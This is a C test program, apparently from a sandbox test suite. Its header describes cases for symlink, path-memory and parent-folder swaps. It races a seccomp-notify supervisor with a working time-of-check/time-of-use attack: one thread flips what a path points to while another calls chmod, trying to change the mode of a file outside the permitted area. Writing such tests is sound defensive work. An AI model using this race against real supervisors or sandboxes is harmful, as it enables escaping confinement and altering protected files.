/*
 * Races a supervisor that looks at a path and then lets the kernel look again. race-attributes <symlink|memory|folder>
 * <inside file> <outside file> <inside folder> <tries>. One thread changes what the path means (a symbolic link, the bytes
 * of the path, a folder above it) while the other calls chmod with it.
 * Family: races
 * Facts: between a look at the caller's memory or at the tree and the kernel's own look, another thread can change both
 * (man 2 seccomp_unotify, "time of check, time of use").
 * Witness: the mode of the file outside.
 * Cases: name | what it tries | attack | twin | marks
 *   symlink | exchange the symbolic link that the path leads through | symlink {inside} {secret} {grant} 2000 | @change-attributes chmod {inside} {grant} | event=file.attr slow
 *   memory | exchange the bytes of the path | memory {inside} {secret} {grant} 2000 | @change-attributes chmod {inside} {grant} | event=file.attr slow
 *   folder | exchange a folder above the file by a link | folder {inside} {secret} {grant} 2000 | @change-attributes chmod {inside} {grant} | event=file.attr slow
 */
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

static atomic_bool stop;
static const char *way, *inside, *outside, *folder;
static char link_path[4096], spare_path[4096], shared[4096], deep[4096];

static void *flip(void *nothing) {
  (void)nothing;
  char other_link[4200], real[4200], aside[4200];
  snprintf(other_link, sizeof other_link, "%s.new", link_path);
  snprintf(real, sizeof real, "%s/turn", folder);
  snprintf(aside, sizeof aside, "%s/aside", folder);
  char outside_folder[4096];
  snprintf(outside_folder, sizeof outside_folder, "%s", outside);
  *strrchr(outside_folder, '/') = 0;
  for (unsigned turn = 0; !atomic_load_explicit(&stop, memory_order_relaxed); turn++) {
    const char *target = turn & 1 ? outside : inside;
    if (is(way, "symlink")) {
      if (symlink(target, other_link) == 0) rename(other_link, link_path);
    } else if (is(way, "folder")) {
      /* a real folder, and a link of the same name to the folder outside */
      if (turn & 1) {
        rename(real, aside);
        (void)!symlink(outside_folder, real);
      } else {
        unlink(real);
        rename(aside, real);
      }
    } else {
      memcpy(shared, target, strlen(target) + 1);
    }
  }
  return NULL;
}

int main(int argc, char **argv) {
  way = argument(argc, argv, 1);
  inside = argument(argc, argv, 2);
  outside = argument(argc, argv, 3);
  folder = argument(argc, argv, 4);
  long tries = atol(argument(argc, argv, 5));
  snprintf(link_path, sizeof link_path, "%s/flip", folder);
  snprintf(spare_path, sizeof spare_path, "%s/turn", folder);
  if (is(way, "folder")) {
    mkdir(spare_path, 0700);
    snprintf(deep, sizeof deep, "%s/turn/%s", folder, strrchr(outside, '/') + 1);
    close((int)prepare("make the inside file", open(deep, O_CREAT | O_WRONLY, 0600)));
  }
  if (is(way, "symlink")) prepare("symlink", symlink(inside, link_path));
  memcpy(shared, inside, strlen(inside) + 1);
  const char *path = is(way, "symlink") ? link_path : is(way, "folder") ? deep : shared;
  pthread_t thread;
  if (pthread_create(&thread, NULL, flip, NULL) != 0) broken("thread");
  long succeeded = 0, denied = 0;
  struct stat status;
  must("stat outside", stat(outside, &status));
  const mode_t before = status.st_mode;
  struct timespec begin, now;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  now = begin;
  /* at least so many tries, and at least two seconds of them: a busy machine may not run the other thread at once */
  for (long turn = 0; turn < tries || now.tv_sec - begin.tv_sec < 2; turn++) {
    if (chmod(path, 0777) == 0) succeeded++;
    else if (errno == EACCES || errno == EPERM) denied++;
    if (turn % 64 != 0) continue;
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (stat(outside, &status) == 0 && status.st_mode != before) break;
  }
  atomic_store(&stop, true);
  pthread_join(thread, NULL);
  prepare("stat outside", stat(outside, &status));
  if (status.st_mode != before) reached("the mode of the outside file changed");
  printf("REFUSED EACCES %ld changed inside, %ld refused\n", succeeded, denied);
  return 10;
}
